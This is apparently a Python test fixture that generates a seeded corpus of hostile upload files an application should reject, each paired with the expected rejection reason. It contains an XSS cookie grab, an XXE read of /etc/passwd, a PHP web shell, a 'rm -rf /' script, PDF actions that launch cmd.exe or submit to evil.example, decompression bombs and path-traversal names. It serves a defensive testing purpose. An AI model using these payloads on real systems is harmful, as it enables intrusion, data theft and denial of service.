"""Almost two hundred files that no application may bring in: (name, content, how they are refused), made anew from a seed."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.support.files import pdf, picture

HOSTILE = tuple[str, bytes, set[str]]


def corpus(seed: int) -> Iterator[HOSTILE]:
    chance = random.Random(seed)
    makers = [other_kinds, acting_pdfs, broken_pdfs, broken_pictures, bombs, large, empty]
    for maker in makers:
        yield from maker(chance)


def other_kinds(chance: random.Random) -> Iterator[HOSTILE]:
    """What is no PDF or picture, under its own name or under that of one."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("word/document.xml", b"\0" * 50_000_000)
    contents = {
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "html": b"<!doctype html><script>alert(document.cookie)</script>",
        "xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "exe": b"MZ\x90\0" + chance.randbytes(400),
        "sh": b"#!/bin/sh\nrm -rf /\n",
        "php": b"<?php system($_GET['c']); ?>",
        "eicar": rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        "elf": b"\x7fELF" + chance.randbytes(200),
    }
    known = {
        "docx": (archive.getvalue(), "OFFICE"),
        "zip": (b"PK\x03\x04" + chance.randbytes(200), "ARCHIVE"),
        "mp4": (b"\0\0\0\x18ftypmp42\0\0\0\0" + chance.randbytes(200), "VIDEO"),
        "gif": (b"GIF89a" + chance.randbytes(100), "BROKEN"),
        "webp": (b"RIFF\x24\0\0\0WEBPVP8 " + chance.randbytes(60), "BROKEN"),
        "tiff": (b"II*\0" + chance.randbytes(80), "BROKEN"),
        "heic": (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + chance.randbytes(200), "BROKEN"),
    }
    for kind, (content, reason) in {**{kind: (content, "KIND") for kind, content in contents.items()}, **known}.items():
        for name in (f"berkas.{kind}", "surat.pdf", "foto.jpg", "../../foto.jpeg", "foto.jpg.exe"):
            yield name, content, {reason}


def acting_pdfs(chance: random.Random) -> Iterator[HOSTILE]:
    acts = [
        b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
        b"/OpenAction<</S/Launch/F(cmd.exe)>>",
        b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>",
        b"/AcroForm<</XFA 4 0 R>>",
        b"/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>",
        b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>",
        b"/OpenAction<</S/#4aavaScript/JS(x)>>",
        b"/OpenAction<</S/ImportData/F(x)>>",
        b"/Outlines<</First<</A<</S/RichMedia>>>>>>",
    ]
    for act in acts:
        for _ in range(5):
            hidden = [
                b"<</Length %d>>stream\n" % len(noise) + noise + b"\nendstream" for noise in [chance.randbytes(chance.randrange(400))]
            ]
            yield f"surat-{chance.randrange(1000)}.pdf", pdf([b"<<>>", *hidden], catalog=act), {"ACTIVE", "EMBEDDED", "BROKEN"}
    yield (
        "terkunci.pdf",
        pdf().replace(b"trailer<<", b"trailer<</Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(y)/P -4>>"),
        {"ENCRYPTED", "BROKEN"},
    )
    yield "objek.pdf", pdf([b"1"] * 61_000), {"TOO_HEAVY"}


def broken_pdfs(chance: random.Random) -> Iterator[HOSTILE]:
    good = pdf()
    for _ in range(20):
        yield "sobek.pdf", good[: chance.randrange(6, 60)], {"BROKEN"}
    for _ in range(10):
        yield "acak.pdf", b"%PDF-1.7\n" + chance.randbytes(chance.randrange(1, 50_000)), {"BROKEN"}
    # an HTML page with the first bytes of a PDF
    yield "dua-wajah.pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>", {"BROKEN"}


def broken_pictures(chance: random.Random) -> Iterator[HOSTILE]:
    for kind, name in (("JPEG", "foto.jpg"), ("PNG", "foto.png")):
        good = picture(kind, (400, 300))
        for _ in range(12):
            yield name, good[: chance.randrange(9, len(good) // 2)], {"BROKEN", "CUT"}
        for _ in range(5):
            yield name, good[:8] + chance.randbytes(500), {"BROKEN"}


def bombs(chance: random.Random) -> Iterator[HOSTILE]:
    """Small files that would fill the memory."""
    for side in (7_000, 12_000, 20_000, 60_000):
        yield "bom.png", huge_png(side), {"TOO_MANY_PIXELS", "BROKEN"}
    for side in (20_000, 65_000):
        frame = picture("JPEG")
        at = frame.index(b"\xff\xc0")
        yield "bom.jpg", frame[: at + 5] + struct.pack("!HH", side, side) + frame[at + 9 :], {"TOO_MANY_PIXELS"}
    yield (
        "bom.pdf",
        pdf([b"<</Length 9/Filter/FlateDecode>>stream\n" + zlib.compress(b"\0" * 40_000_000) + b"\nendstream"] * 31_000),
        {
            "TOO_LARGE",
            "TOO_HEAVY",
        },
    )


def huge_png(side: int) -> bytes:
    """A black picture, written without ever being in memory."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack("!L", len(content)) + kind + content + struct.pack("!L", zlib.crc32(kind + content))

    packer = zlib.compressobj(9)
    row = b"\0" * (1 + (side + 7) // 8)
    body = b"".join(packer.compress(row * 100) for _ in range(side // 100)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack("!LLBBBBB", side, side, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", body)
        + chunk(b"IEND", b"")
    )


def large(chance: random.Random) -> Iterator[HOSTILE]:
    for name, magic in (("a.pdf", b"%PDF-1.4\n"), ("a.jpg", b"\xff\xd8\xff"), ("a.png", b"\x89PNG\r\n\x1a\n")):
        yield name, magic + b"\0" * 5_000_000, {"TOO_LARGE"}


def empty(chance: random.Random) -> Iterator[HOSTILE]:
    for name in ("kosong.pdf", "kosong.jpg", ""):
        yield name, b"", {"EMPTY"}
